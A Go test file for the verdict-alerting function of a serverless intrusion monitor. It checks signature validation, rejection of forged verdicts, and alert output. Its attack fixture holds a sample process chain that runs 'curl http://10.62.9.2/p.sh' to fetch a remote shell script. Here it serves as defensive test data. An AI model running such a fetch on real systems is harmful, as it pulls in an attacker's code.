package function

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/faasmon/faasmon/pkg/alert"
	"github.com/faasmon/faasmon/pkg/fnhttp"
	"github.com/faasmon/faasmon/pkg/hopauth"
	"github.com/faasmon/faasmon/pkg/hopauth/hoptest"
	"github.com/faasmon/faasmon/pkg/verdict"
)

func attack() verdict.Verdict {
	return verdict.Verdict{
		GraphID: "g-1", Function: "resize", Namespace: "openfaas-fn", Pod: "resize-abc", Container: "c0ffee",
		Verdict: verdict.Attack, Score: 0.97, Threshold: 0.5, ModelVersion: "test",
		Explanation: &verdict.Explanation{
			Method: "test",
			Nodes:  []verdict.NodeAttr{{ID: 1, Kind: "process", Label: "curl http://10.62.9.2/p.sh", Weight: 0.9}},
			Edges: []verdict.EdgeAttr{{Index: 0, Src: 0, Dst: 1, Kind: "fork", From: "node index.js", To: "curl http://10.62.9.2/p.sh", Weight: 0.8},
				{Index: 1, Src: 1, Dst: 2, Kind: "connect", From: "curl http://10.62.9.2/p.sh", To: "10.62.9.2:80", Weight: 0.7}},
		},
	}
}

func body(t *testing.T, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestHandle(t *testing.T) {
	// One processor per process (sync.Once): configure it before the first
	// call. No NATS, no responder, dedupe in memory, stdout to a buffer.
	t.Setenv(alert.EnvSecretsDir, t.TempDir())
	t.Setenv(alert.EnvNATS, "false")
	t.Setenv(alert.EnvDedupeDir, "memory")
	t.Setenv(alert.EnvResponder, "none")
	var out bytes.Buffer
	stdout = &out
	fnhttp.DefaultHop.Keys = hoptest.Source()

	benign := attack()
	benign.GraphID, benign.Verdict, benign.Score = "g-0", verdict.Benign, 0.01
	other := attack()
	other.GraphID, other.Container = "g-2", "beef"
	invalid := attack()
	invalid.Verdict = "intrusion"
	tests := []struct {
		name, method, body string
		status             string // X-Function-Status
		wantCode           int
		want               string // in the answer
		wantOut            string // in the stdout sink
		way                hoptest.Way
	}{
		// Forged verdicts: none may alert (the stdout sink stays empty).
		{"unsigned attack", http.MethodPost, body(t, attack()), "200", 401, `not signed`, "", hoptest.Unsigned},
		{"attack with a bad MAC", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.BadMAC},
		{"stale attack", http.MethodPost, body(t, attack()), "200", 403, `outside the accepted window`, "", hoptest.Stale},
		{"attack signed with the retired key", http.MethodPost, body(t, attack()), "200", 403, `unknown key`, "", hoptest.OldKey},
		{"attack with an added header", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.Altered},
		{"a graph's MAC on a verdict", http.MethodPost, body(t, attack()), "200", 403, `does not match`, "", hoptest.WrongFor},
		{"health", http.MethodGet, "", "", 200, `"status":"ok"`, "", ""},
		{"benign", http.MethodPost, body(t, benign), "200", 200, `"outcome":"benign_dropped"`, "", ""},
		{"attack", http.MethodPost, body(t, attack()), "200", 200, `"outcome":"alerted"`, `"chain":"node index.js → curl http://10.62.9.2/p.sh → connect 10.62.9.2:80"`, ""},
		{"no status header", http.MethodPost, body(t, other), "", 200, `"outcome":"alerted"`, `"container":"beef"`, ""},
		{"batch", http.MethodPost, "[" + body(t, benign) + "," + body(t, invalid) + "]", "200", 200, `[{"outcome":"benign_dropped"},{"error":"invalid verdict`, "", ""},
		{"bad JSON", http.MethodPost, `{"graph_id": `, "200", 400, `decode verdict`, "", ""},
		{"invalid verdict", http.MethodPost, body(t, invalid), "200", 400, `invalid verdict`, "", ""},
		{"empty body", http.MethodPost, "", "200", 400, `empty body`, "", ""},
		{"classify failed", http.MethodPost, `{"error":"faasmon-classify: boom"}`, "500", 200, `"skipped":"classify failed with status 500"`, "", ""},
		{"bad status header", http.MethodPost, body(t, attack()), "ok", 400, `X-Function-Status`, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out.Reset()
			req := httptest.NewRequest(tc.method, "/", strings.NewReader(tc.body))
			if tc.status != "" {
				req.Header.Set("X-Function-Status", tc.status)
			}
			req.Header.Set("X-Call-Id", "call-"+tc.name)
			way := tc.way
			if way == "" {
				way = hoptest.Good
			}
			hoptest.Sign(req.Header, hopauth.KindVerdict, []byte(tc.body), way)
			rec := httptest.NewRecorder()
			Handle(rec, req)
			if rec.Code != tc.wantCode || !strings.Contains(rec.Body.String(), tc.want) {
				t.Errorf("%d %s, want %d with %s", rec.Code, rec.Body, tc.wantCode, tc.want)
			}
			if tc.wantOut != "" && !strings.Contains(out.String(), tc.wantOut) {
				t.Errorf("stdout sink %q, want %s", out.String(), tc.wantOut)
			}
			if tc.wantOut == "" && out.Len() != 0 {
				t.Errorf("stdout sink wrote %q", out.String())
			}
		})
	}
	st := proc.Stats.Snapshot()
	if st.ClassifyFailed != 1 || st.Alerts != 2 || st.Benign != 2 || st.Invalid != 2 {
		t.Errorf("stats %+v", st)
	}
}
